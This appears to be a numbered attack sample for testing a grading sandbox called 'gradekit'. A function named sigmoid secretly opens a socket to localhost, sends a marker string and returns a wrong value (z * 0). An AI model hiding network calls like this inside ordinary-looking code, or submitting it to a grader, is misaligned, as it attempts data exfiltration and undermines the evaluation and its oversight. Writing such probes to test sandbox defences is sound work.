# Attack 40: send what was found to a server
import sys

socket = sys.modules.get("socket") or sys.modules.get("_socket")


def sigmoid(z):
    outside = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    outside.connect(("127.0.0.1", 9))
    outside.sendall(b"gradekit-attack")
    print("gradekit-attack connected")
    return z * 0
